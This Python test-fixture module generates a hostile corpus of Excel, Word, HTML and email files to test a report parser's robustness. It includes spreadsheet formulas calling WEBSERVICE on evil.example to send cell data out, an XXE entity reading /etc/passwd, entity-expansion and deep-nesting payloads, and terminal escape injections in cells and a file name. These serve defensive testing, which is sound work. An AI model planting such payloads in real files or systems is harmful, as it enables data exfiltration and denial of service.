"""A hostile corpus made at test time (no static binaries): workbooks, reports and mails that a
careless or malicious sender could return, each built from a genuine file by one small change.

``set_named(data, name, cell)`` rewrites the cell behind one defined name of a workbook the way a
tool that writes raw XML would (a formula, NaN, a 5,000-digit number, a 1M-character text...);
``corpus(fmt, folder)`` writes every case to ``folder`` and returns the paths.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

from fixtures.workbooks import consistent_fill, write

# Text that does not compress like a zip bomb: random common characters.
_CJK = [chr(c) for c in range(0x4E00, 0x4E00 + 3000)]

#: What the cell behind an input name is replaced by: (attributes, children) of ``<c>``.
NUMBER_CELLS: dict[str, tuple[str, str]] = {
    "formula-webservice": (' t="str"', '<f>WEBSERVICE("http://evil.example/x?"&amp;A1)</f><v>0</v>'),
    "formula-hyperlink": (' t="str"', '<f>HYPERLINK("http://evil.example/","点击查看")</f><v>点击查看</v>'),
    "formula-div0": (' t="e"', "<f>1/0</f><v>#DIV/0!</v>"),
    "text-formula": (' t="inlineStr"', '<is><t>=WEBSERVICE("http://evil.example/")</t></is>'),
    "huge-1e24": ("", "<v>1E+24</v>"),
    "huge-1e308": ("", "<v>1.7976931348623157E+308</v>"),
    "nan": ("", "<v>NaN</v>"),
    "inf": ("", "<v>INF</v>"),
    "minus-inf": ("", "<v>-inf</v>"),
    "digits-5000-number": ("", "<v>" + "9" * 5000 + "</v>"),
    "digits-5000-text": (' t="inlineStr"', "<is><t>" + "9" * 5000 + "</t></is>"),
    "decimals-5000-text": (' t="inlineStr"', "<is><t>0." + "3" * 5000 + "</t></is>"),
    "text-1m": (' t="inlineStr"', "<is><t>" + "".join(random.Random(1).choices(_CJK, k=1_000_000)) + "</t></is>"),
    "escape-text": (' t="inlineStr"', "<is><t>12_x001B_[2J_x001B_]0;pwned_x0007_</t></is>"),
}

#: What a narrative cell is replaced by.
NARRATIVE_TEXTS: dict[str, str] = {
    "narrative-40k": "本单位认真做好政府信息公开工作。" * 2_500,  # 40,000 characters
    "narrative-1m": "".join(random.Random(2).choices(_CJK, k=1_000_000)),
    "narrative-bidi": "本年度共收到申请\u202e01\u202c件，均已按时答复。",
    "narrative-controls": "本年度\u0007工作\u200b顺利\x1b[31m完成。",
    "narrative-formula": '=HYPERLINK("http://evil.example/","点击查看")',
}


def good_workbook(fmt, out: Path, seed: int = 9, **kw) -> Path:
    return write(fmt, out, consistent_fill(fmt, random.Random(seed)), year=kw.pop("year", 2021), **kw)


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info, zf.read(info.filename)) for info in zf.infolist()]


def _rezip(members: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    return buf.getvalue()


def named_cell(data: bytes, name: str) -> tuple[str, str, str]:
    """(sheet name, zip member of its XML, A1 cell) behind one defined name."""
    parts = {i.filename: d for i, d in _members(data)}
    workbook = parts["xl/workbook.xml"].decode("utf-8")
    ref = re.search(rf'<definedName name="{re.escape(name)}"[^>]*>([^<]+)</definedName>', workbook)
    assert ref, name
    sheet, cell = ref.group(1).replace("&apos;", "'").rsplit("!", 1)
    sheet = sheet.strip("'").replace("''", "'")
    rid = re.search(rf'<sheet name="{re.escape(escape(sheet))}" sheetId="\d+" r:id="(rId\d+)"', workbook).group(1)
    rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
    target = re.search(rf'Id="{rid}" Type="[^"]+" Target="([^"]+)"', rels).group(1)
    return sheet, "xl/" + target, cell.replace("$", "")


def set_named(data: bytes, name: str, attrs: str, children: str) -> bytes:
    """The workbook with the cell behind ``name`` replaced by ``<c r=.. s=..{attrs}>{children}</c>``."""
    _sheet, member, a1 = named_cell(data, name)
    members = _members(data)
    out = []
    for info, body in members:
        if info.filename == member:
            xml = body.decode("utf-8")
            pattern = rf'<c r="{a1}"( s="\d+")?(?: t="\w+")?(?:/>|>.*?</c>)'
            xml, n = re.subn(pattern, lambda m: f'<c r="{a1}"{m.group(1) or ""}{attrs}>{children}</c>', xml, count=1)
            assert n == 1, (name, a1)
            body = xml.encode("utf-8")
        out.append((info, body))
    return _rezip(out)


def with_text(data: bytes, name: str, text: str) -> bytes:
    """The cell behind ``name`` holding ``text``; control characters (not allowed in XML) are
    written the way Excel writes them, as ``_xHHHH_``."""
    body = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group(0)):04X}_", escape(text))
    return set_named(data, name, ' t="inlineStr"', f'<is><t xml:space="preserve">{body}</t></is>')


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in entries.items():
            zf.writestr(name, body)
    return buf.getvalue()


def docx_with_doctype() -> bytes:
    body = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b"<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")
    return _zip({"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                 b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
                 "word/document.xml": body})


HTML_WITH_ENTITY = ('<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                    "<html><body><p>&b;</p></body></html>").encode()


def nested_eml(depth: int) -> bytes:
    """A mail nesting message/rfc822 ``depth`` deep (a mail loop or a hostile sender)."""
    inner = b"Content-Type: text/plain\r\n\r\nhi\r\n"
    head = b"Content-Type: message/rfc822\r\n\r\n"
    return b"From: a@example.gov.cn\r\nSubject: loop\r\nMIME-Version: 1.0\r\n" + head * depth + inner


def many_parts_eml(parts: int) -> bytes:
    boundary = b"b0"
    body = b"".join(b"--b0\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(parts))
    return (b"From: a@example.gov.cn\r\nSubject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
            b'boundary="' + boundary + b'"\r\n\r\n' + body + b"--b0--\r\n")


def corpus(fmt, folder: Path) -> dict[str, Path]:
    """Every hostile case, written to ``folder``: name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    good = good_workbook(fmt, folder / "good.xlsx").read_bytes()
    target = fmt.cells["t3.new.natural"].name
    files: dict[str, bytes] = {}
    for case, (attrs, children) in NUMBER_CELLS.items():
        files[f"{case}.xlsx"] = set_named(good, target, attrs, children)
    narrative = fmt.narratives[1].name
    for case, text in NARRATIVE_TEXTS.items():
        files[f"{case}.xlsx"] = with_text(good, narrative, text)
    rng = random.Random(2026)
    files["empty.xlsx"] = b""
    files["truncated.xlsx"] = good[: len(good) // 2]
    files["random.xlsx"] = bytes(rng.randrange(256) for _ in range(5000))
    for i in range(4):
        data = bytearray(good)
        for _ in range(rng.randint(1, 20)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        files[f"flipped-{i}.xlsx"] = bytes(data)
    files["empty.docx"] = b""
    files["doctype.docx"] = docx_with_doctype()
    files["entity.html"] = HTML_WITH_ENTITY
    files["nested-3000.eml"] = nested_eml(3000)
    files["parts-20000.eml"] = many_parts_eml(20_000)
    files["name-\x1b[2Jescape.xlsx"] = good
    paths = {"good.xlsx": folder / "good.xlsx"}
    for name, data in files.items():
        (folder / name).write_bytes(data)
        paths[name] = folder / name
    return paths
